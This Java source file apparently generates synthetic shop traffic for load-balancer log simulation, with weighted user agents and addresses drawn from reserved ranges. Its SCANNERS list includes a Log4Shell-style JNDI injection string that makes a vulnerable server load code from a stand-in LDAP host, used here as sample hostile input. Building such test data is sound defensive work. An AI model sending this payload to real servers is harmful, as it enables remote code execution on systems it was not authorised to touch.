package io.tocsin.simulation;

import java.util.SplittableRandom;
import org.jspecify.annotations.Nullable;

/**
 * Somebody who uses the shop.
 *
 * @param address IPv4, or IPv6 without brackets as the load balancer logs it
 * @param agent as logged, quotes hex-escaped; null when the client sends none
 * @param node address of the load balancer node its name lookup gave
 * @param secondVersion whether it speaks HTTP/2
 */
record Client(String address, @Nullable String agent, String node, boolean secondVersion) {

  private static final String[] NODES = {"203.0.113.21", "203.0.113.148"};

  private static final String[] AGENTS = {
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
        + " Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
        + " Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0"
        + " Mobile Safari/537.36",
    "ShopApp/7.4.1 (iOS 18.6; iPhone16,1)",
    "ShopApp/7.4.0 (Android 15; Pixel 9)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
        + " Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
        + " Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "okhttp/4.12.0",
    "price-check \\x22M\\xC3\\xBCller\\x22/1.3",
    "curl/8.5.0",
  };

  /** Out of a hundred clients, how many have the agent of the same place. */
  private static final int[] SHARES = {24, 20, 16, 10, 8, 7, 5, 4, 2, 2, 1, 1};

  private static final String[] SCANNERS = {
    "Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "${jndi:ldap://192.0.2.250/a}"
  };

  private static final int FIRST_SIMPLE_AGENT = 8;
  private static final int IPV6_PERCENT = 8;

  static Client shopper(SplittableRandom random) {
    int dice = random.nextInt(100);
    int agent = 0;
    while (dice >= SHARES[agent]) {
      dice -= SHARES[agent++];
    }
    return new Client(
        random.nextInt(100) < IPV6_PERCENT ? version6(random) : version4(random),
        AGENTS[agent],
        NODES[random.nextInt(NODES.length)],
        agent < FIRST_SIMPLE_AGENT && random.nextInt(100) < 88);
  }

  static Client scanner(SplittableRandom random) {
    int dice = random.nextInt(SCANNERS.length + 1);
    return new Client(
        "192.0.2." + (60 + random.nextInt(6)),
        dice < SCANNERS.length ? SCANNERS[dice] : null,
        NODES[random.nextInt(NODES.length)],
        false);
  }

  /** From the range reserved for benchmarks, so that no real person's address appears. */
  private static String version4(SplittableRandom random) {
    return "198."
        + (18 + random.nextInt(2))
        + '.'
        + random.nextInt(256)
        + '.'
        + (1 + random.nextInt(254));
  }

  private static String version6(SplittableRandom random) {
    return "2001:db8:"
        + Integer.toHexString(1 + random.nextInt(0xfffe))
        + ':'
        + Integer.toHexString(1 + random.nextInt(0xfffe))
        + "::"
        + Integer.toHexString(1 + random.nextInt(0xfffe));
  }
}
